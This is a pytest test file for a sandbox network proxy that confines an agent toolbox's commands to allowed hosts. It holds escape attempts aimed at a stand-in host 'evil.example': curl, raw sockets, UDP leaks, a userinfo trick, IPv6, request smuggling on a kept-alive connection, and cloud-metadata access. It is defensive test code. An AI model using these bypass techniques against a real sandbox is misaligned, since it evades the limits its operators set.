"""network=[hosts]: pip and git reach the allowed hosts through the proxy; nothing else.

Local servers on 127.0.0.x stand in for pypi.org, files.pythonhosted.org and a host
under *.github.com (names mapped by the toolbox's ``hosts``, TLS from a test CA); a sink
on 127.0.0.9 stands in for every other host and must never hear from a command.
"""

from __future__ import annotations

import hashlib
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from net_servers import Sink, StaticServer, local_ca, tiny_wheel
from yggdrasil.loki.netproxy import AllowedHosts
from yggdrasil.loki.sandbox import isolation_status
from yggdrasil.loki.tools import Toolbox, filesystem_toolbox

pytestmark = pytest.mark.skipif(not isolation_status().namespaces,
                                reason="limiting commands to hosts needs network namespaces")

NAMES = ["pypi.org", "files.pythonhosted.org", "git.github.com"]


@dataclass
class World:
    root: Path
    box: Toolbox
    index: StaticServer
    files: StaticServer
    git: StaticServer
    sink: Sink
    plain: StaticServer


@pytest.fixture
def world(root: Path, tmp_path: Path) -> Iterator[World]:
    with local_ca(NAMES) as (ca, tls):
        (root / "ca.crt").write_bytes(ca.cert_pem.bytes())  # not *.pem: that is protected
        wheels = tmp_path / "wheels"
        wheels.mkdir()
        wheel = tiny_wheel(wheels)
        files = StaticServer("127.0.0.7", wheels, tls)
        digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
        simple = tmp_path / "index" / "simple" / "tinypkg"
        simple.mkdir(parents=True)
        (simple / "index.html").write_text(
            f'<a href="https://files.pythonhosted.org:{files.port}/{wheel.name}#sha256={digest}">'
            f"{wheel.name}</a>\n")
        index = StaticServer("127.0.0.5", tmp_path / "index", tls)
        plain = StaticServer("127.0.0.5", tmp_path / "index")  # the same index over http
        repos = tmp_path / "repos"
        _bare_repo(repos / "tool.git", tmp_path / "work")
        git = StaticServer("127.0.0.8", repos, tls)
        sink = Sink("127.0.0.9")
        box = filesystem_toolbox(
            root, allow_private_hosts=True,
            network=[f"pypi.org:{index.port}", f"pypi.org:{plain.port}",
                     f"files.pythonhosted.org:{files.port}", f"*.github.com:{git.port}"],
            hosts={"pypi.org": "127.0.0.5", "files.pythonhosted.org": "127.0.0.7",
                   "git.github.com": "127.0.0.8", "evil.example": "127.0.0.9",
                   "github.com": "127.0.0.8"})
        yield World(root, box, index, files, git, sink, plain)
        for server in (index, files, git, plain):
            server.close()
        sink.close()


def _bare_repo(bare: Path, work: Path) -> None:
    work.mkdir()
    (work / "README").write_text("a repository\n")
    for args in (["init", "-q", "-b", "main"], ["add", "README"],
                 ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "first"],
                 ["clone", "-q", "--bare", str(work), str(bare)]):
        subprocess.run(["git", *args], cwd=work, check=True, capture_output=True)
    subprocess.run(["git", "update-server-info"], cwd=bare, check=True)  # dumb HTTP


# This machine's CA settings (PIP_CERT, REQUESTS_CA_BUNDLE, GIT_SSL_CAINFO...) would win
# over the command line; the test CA is given through the same variables instead.
TRUST = ("env PIP_CONFIG_FILE=/dev/null PIP_CERT=$PWD/ca.crt REQUESTS_CA_BUNDLE=$PWD/ca.crt "
         "GIT_SSL_CAINFO=$PWD/ca.crt CURL_CA_BUNDLE=$PWD/ca.crt ")


def run(world: World, command: str) -> str:
    return world.box.call("run", {"command": command, "timeout": 120})


def test_pip_installs_from_the_allowed_index_over_https(world: World) -> None:
    out = run(world, f"{TRUST} python3 -m pip install --no-cache-dir --disable-pip-version-check "
                     f"--index-url https://pypi.org:{world.index.port}/simple/ "
                     f"--target vendor tinypkg && python3 -c 'import sys; sys.path[:0] = "
                     f"[\"vendor\"]; import tinypkg; print(\"value\", tinypkg.VALUE)'")
    assert out.startswith("exit=0") and "value 42" in out, out
    assert (world.root / "vendor" / "tinypkg" / "__init__.py").exists()


def test_pip_over_plain_http_too(world: World) -> None:
    out = run(world, f"{TRUST} python3 -m pip download --no-cache-dir --disable-pip-version-check "
                     f"-d dl --index-url http://pypi.org:{world.plain.port}/simple/ "
                     f"--trusted-host pypi.org:{world.plain.port} tinypkg")
    assert out.startswith("exit=0"), out
    assert (world.root / "dl" / "tinypkg-0.1-py3-none-any.whl").exists()


def test_git_clones_from_an_allowed_host(world: World) -> None:
    out = run(world, f"{TRUST} git clone -q https://git.github.com:{world.git.port}/tool.git tool"
                     " && cat tool/README")
    assert out.startswith("exit=0") and "a repository" in out, out
    # github.com itself is not under *.github.com
    out = run(world, f"{TRUST} git clone -q https://github.com:{world.git.port}/tool.git other")
    assert not out.startswith("exit=0") and "403" in out
    assert "loki proxy: refused: github.com:" in out and "not an allowed host" in out


def test_every_other_way_out_fails(world: World) -> None:
    port = world.sink.port
    attempts = {
        "a name": f"curl -fsS -m 5 http://evil.example:{port}/",
        "a name, tunnelled": f"curl -fsS -m 5 -p http://evil.example:{port}/",
        "an IP": f"curl -fsS -m 5 http://127.0.0.9:{port}/",
        "an IP, no proxy": f"curl -fsS -m 5 --noproxy '*' http://127.0.0.9:{port}/",
        "an allowed name on another port": f"curl -fsS -m 5 https://pypi.org:{port}/",
        "a raw TCP socket": "python3 -c \"import socket; socket.create_connection(("
                            f"'127.0.0.9', {port}), 3)\"",
        "UDP": "python3 -c \"import socket; s = socket.socket(socket.AF_INET, "
               f"socket.SOCK_DGRAM); s.sendto(b'leak', ('127.0.0.9', {port})); "
               "s.sendto(b'leak', ('8.8.8.8', 53))\"",
        "a raw IP socket": "python3 -c \"import socket; socket.socket(socket.AF_INET, "
                           "socket.SOCK_RAW, socket.IPPROTO_ICMP)\"",
        "DNS": "python3 -c \"import socket; print(socket.getaddrinfo('pypi.org', 443))\"",
        "userinfo trick": f"curl -fsS -m 5 'http://pypi.org:{world.plain.port}@evil.example:{port}/'",
        "IPv6": f"curl -fsS -m 5 --noproxy '*' 'http://[::ffff:127.0.0.9]:{port}/'",
    }
    for what, command in attempts.items():
        out = run(world, command)
        assert not out.startswith("exit=0"), (what, out)
    assert world.sink.settled() == []
    out = run(world, f"curl -fsS http://evil.example:{port}/")
    assert ("loki proxy: refused: evil.example:" in out
            and "not an allowed host (allowed: pypi.org:" in out
            and "loki --allow-host" in out)


def test_a_second_request_on_the_connection_cannot_switch_host(world: World) -> None:
    script = (
        "import os, socket\n"
        "host, port = os.environ['HTTP_PROXY'].rsplit(':', 1)\n"
        "s = socket.create_connection((host.split('//')[1], int(port)))\n"
        f"s.sendall(b'GET http://pypi.org:{world.plain.port}/simple/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'\n"
        f"          b'GET http://evil.example:{world.sink.port}/ HTTP/1.1\\r\\n\\r\\n')\n"
        "data = b''\n"
        "while chunk := s.recv(65536): data += chunk\n"
        "print(data.split(b'\\r\\n')[0].decode())\n")
    out = world.box.call("run_python", {"code": script, "timeout": 60})
    assert "HTTP/1.0 200 OK" in out, out
    assert world.sink.settled() == []


def test_private_and_metadata_addresses_need_the_opt_in(root: Path) -> None:
    server = StaticServer("127.0.0.5", root)
    try:
        box = filesystem_toolbox(root, network=[f"pypi.org:{server.port}", "meta.example"],
                                 hosts={"pypi.org": "127.0.0.5", "meta.example": "169.254.169.254"})
        out = box.call("run", {"command": f"curl -sS http://pypi.org:{server.port}/"})
        assert "pypi.org resolves to 127.0.0.5, a loopback address" in out
        opted = filesystem_toolbox(root, network=["meta.example"], allow_private_hosts=True,
                                   hosts={"meta.example": "169.254.169.254"})
        out = opted.call("run", {"command": "curl -fsS -m 5 http://meta.example/latest/"})
        assert "a cloud metadata address" in out
    finally:
        server.close()


def test_status_and_bad_entries(root: Path) -> None:
    box = filesystem_toolbox(root, network=["pypi.org", "*.github.com"])
    assert "network only to pypi.org, *.github.com over HTTP(S), through the toolbox's proxy" in box.status
    for bad in ("https://pypi.org", "pypi.org/simple", "*", "*.com", "pypi.org:99999", "", "a b"):
        with pytest.raises(ValueError):
            filesystem_toolbox(root, network=[bad])
    hosts = AllowedHosts(["pypi.org", "*.github.com", "10.0.0.5:8080"])
    assert hosts.allows("PyPI.org.", 443) and hosts.allows("api.github.com", 80)
    assert not hosts.allows("github.com", 443) and not hosts.allows("evilgithub.com", 443)
    assert not hosts.allows("pypi.org", 22) and hosts.allows("10.0.0.5", 8080)
    assert not hosts.allows("pypi.org.evil.com", 443)


def test_the_proxys_refusals_never_split_a_line_of_the_commands_stderr(world: World) -> None:
    # Refusals used to be written onto the command's stderr while curl wrote its own error
    # there, at times inside it ('cloki proxy: refused: ...url: (56) CONNECT tunnel
    # failed'). They have a section of their own now: checked over many requests.
    port = world.sink.port
    count = 24
    out = run(world, f"for i in $(seq {count // 2}); do curl -sS -m 5 http://evil.example:{port}/;"
                     f" curl -sS -m 5 https://evil.example:{port}/; done; true")
    stderr = out.split("\nstderr:\n", 1)[1].split("\nproxy:\n", 1)[0]
    notes = out.split("\nproxy:\n", 1)[1].split("\nchanged:\n", 1)[0].splitlines()
    assert [line for line in stderr.splitlines() if line] and all(
        line.startswith("curl: (") for line in stderr.splitlines() if line), out
    assert "loki proxy" not in stderr
    assert len(notes) == count and all(
        line.startswith("loki proxy: refused: evil.example:") for line in notes), out
    job = world.box.call("run", {"command": f"curl -sS -m 5 https://evil.example:{port}/; sleep 1",
                                 "background": True})
    job_id = int(job.split()[2].rstrip(":"))
    seen = job
    while "exit=" not in seen.split("\n", 1)[0] + seen.split("\n", 2)[1]:
        seen = world.box.call("job_output", {"job": job_id, "wait": 5})
        job += seen
    assert "\nproxy:\nloki proxy: refused: evil.example:" in job, job
    assert all("loki proxy" not in line for line in job.split("stderr:\n", 1)[1].split(
        "proxy:\n", 1)[0].splitlines()), job
